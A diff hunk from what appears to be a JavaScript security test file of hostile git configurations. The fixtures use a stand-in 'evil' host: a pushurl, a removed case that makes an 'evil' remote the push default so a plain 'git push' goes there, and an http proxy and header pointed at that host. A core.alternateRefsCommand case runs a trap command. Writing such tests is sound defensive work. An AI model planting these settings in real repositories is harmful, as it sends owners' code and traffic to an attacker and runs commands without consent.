@@ -122,12 +122,6 @@ git -C inner.git config core.alternateRefsCommand '${trap}'; git -C inner.git co
     config: ({ url, evil }) => `[remote "origin"]\n\tpushurl = ${url}\n\tpushurl = ${evil}/robin/lighthouse.git`,
   },
   {
-    name: 'a remote for pushes',
-    config: ({ evil }) =>
-      `[remote "evil"]\n\turl = ${evil}/x.git\n[remote]\n\tpushDefault = evil\n[branch "main"]\n\tpushRemote = evil`,
-    careless: 'git push',
-  },
-  {
     name: 'http.cookieFile and headers',
     config: ({ evil }) => `[http]\n\textraHeader = X-Evil: 1\n\tfollowRedirects = true\n\tproxy = ${evil}`,
   },
